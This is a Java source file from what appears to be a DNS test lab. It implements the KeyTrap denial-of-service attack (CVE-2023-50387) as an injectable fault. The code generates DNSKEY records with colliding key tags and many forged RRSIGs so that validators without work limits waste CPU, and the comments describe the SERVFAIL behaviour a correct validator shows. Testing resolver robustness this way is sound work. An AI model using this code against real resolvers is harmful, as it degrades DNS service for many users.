package dev.dnslab.core.fault;

import dev.dnslab.core.dnssec.DnssecAlgorithm;
import dev.dnslab.core.dnssec.KeyDirectory;
import dev.dnslab.core.dnssec.ZoneKey;
import dev.dnslab.core.dnssec.ZoneKeys;
import dev.dnslab.core.server.DnsRequest;
import java.security.PrivateKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import org.xbill.DNS.DNSKEYRecord;
import org.xbill.DNS.Message;
import org.xbill.DNS.RRSIGRecord;
import org.xbill.DNS.RRset;
import org.xbill.DNS.Type;

/**
 * The KeyTrap attack (CVE-2023-50387): the zone's DNSKEY RRset gets {@code keys} more keys that
 * share the key tag of its zone-signing key (copies of it with bytes shifted so the RFC 4034 B
 * checksum stays the same) and is signed again by the real key-signing key, so it validates; every
 * other signed RRset gets {@code signatures} RRSIGs with that tag instead of its real one, each a
 * real signature (dnsjava's signer) by a private key no published key matches. A validator that
 * tries every key with a matching tag against every signature does keys x signatures
 * verifications for one answer. None succeeds, so the answer is bogus (RFC 4035 5.5): the correct
 * outcome is SERVFAIL, quickly, from a validator that bounds its work (RFC 4035 5.3.3 lets it give
 * up; the 2024 fixes cap failed verifications per answer).
 *
 * <p>The unpublished key is made once per algorithm and fault, on the fault-key thread, at the
 * first answer signed with that algorithm (a zone's algorithm is in its keys, read then too).
 */
public final class KeyTrapFault extends DnssecFault {
  private final int keys;
  private final int signatures;
  private final FaultKeys<DnssecAlgorithm, PrivateKey> strangers = new FaultKeys<>();

  public KeyTrapFault(QueryMatch match, int keys, int signatures, FaultListener listener, KeyDirectory keyDirectory) {
    super("keytrap", match, listener, keyDirectory);
    if (keys < 1 || keys > 500) {
      throw new IllegalArgumentException("keys: " + keys + " (expected: 1..500)");
    }
    if (signatures < 1 || signatures > 500) {
      throw new IllegalArgumentException("signatures: " + signatures + " (expected: 1..500)");
    }
    this.keys = keys;
    this.signatures = signatures;
  }

  /** For each signed RRset {@link #trapped} replaces: its signer's keys, and a key of their algorithm. */
  @Override
  protected List<CompletableFuture<?>> prepare(Message response) {
    List<CompletableFuture<?>> needed = new ArrayList<>();
    for (int section : RRSET_SECTIONS) {
      for (RRset set : rrsets(response, section)) {
        if (!set.sigs().isEmpty() && !set.rrs(false).isEmpty()) {
          needed.add(startKeysOf(set.sigs().get(0).getSigner()).thenCompose(
              zone -> strangers.start(zone.algorithm(), () -> zone.algorithm().generateKeyPair().getPrivate())));
        }
      }
    }
    return needed;
  }

  @Override
  protected void rewrite(DnsRequest request, Message response) {
    for (int section : RRSET_SECTIONS) {
      List<RRset> sets = new ArrayList<>();
      for (RRset set : rrsets(response, section)) {
        sets.add(set.sigs().isEmpty() || set.rrs(false).isEmpty() ? set : trapped(set));
      }
      replace(response, section, sets);
    }
  }

  private RRset trapped(RRset set) {
    ZoneKeys zone = keysOf(set.sigs().get(0).getSigner());
    ZoneKey target = zone.zoneSigningKeys().get(0);
    List<DNSKEYRecord> colliding = colliding(target.dnskey(), keys);
    if (set.getType() == Type.DNSKEY) {
      RRset grown = unsigned(set);
      colliding.forEach(grown::addRR);
      return signLike(grown, set);
    }
    RRSIGRecord real = set.sigs().get(0);
    PrivateKey stranger = strangers.got(zone.algorithm());
    RRset forged = unsigned(set);
    for (int i = 0; i < signatures; i++) {
      // A second apart, so that even deterministic algorithms (Ed25519) make distinct signatures.
      Instant inception = real.getTimeSigned().plusSeconds(i);
      forged.addRR(sign(forged, colliding.get(i % colliding.size()), stranger, inception, real.getExpire()));
    }
    return forged;
  }

  /**
   * {@code count} keys unlike {@code key} but with its tag: byte {@code j} raised by d and byte
   * {@code j + 2} lowered by d leave the 16-bit word sum of RFC 4034 B unchanged; every candidate is
   * checked against dnsjava's own footprint.
   */
  static List<DNSKEYRecord> colliding(DNSKEYRecord key, int count) {
    byte[] original = key.getKey();
    Set<String> seen = new HashSet<>(Set.of(HexFormat.of().formatHex(original)));
    List<DNSKEYRecord> out = new ArrayList<>();
    for (int delta = 1; delta < 128 && out.size() < count; delta++) {
      for (int j = 0; j + 2 < original.length && out.size() < count; j++) {
        int up = (original[j] & 0xff) + delta;
        int down = (original[j + 2] & 0xff) - delta;
        if (up > 0xff || down < 0) {
          continue;
        }
        byte[] bytes = original.clone();
        bytes[j] = (byte) up;
        bytes[j + 2] = (byte) down;
        DNSKEYRecord candidate = new DNSKEYRecord(key.getName(), key.getDClass(), key.getTTL(), key.getFlags(),
            key.getProtocol(), key.getAlgorithm(), bytes);
        if (candidate.getFootprint() == key.getFootprint() && seen.add(HexFormat.of().formatHex(bytes))) {
          out.add(candidate);
        }
      }
    }
    if (out.size() < count) {
      throw new IllegalStateException("only " + out.size() + " keys collide with tag " + key.getFootprint());
    }
    return out;
  }
}
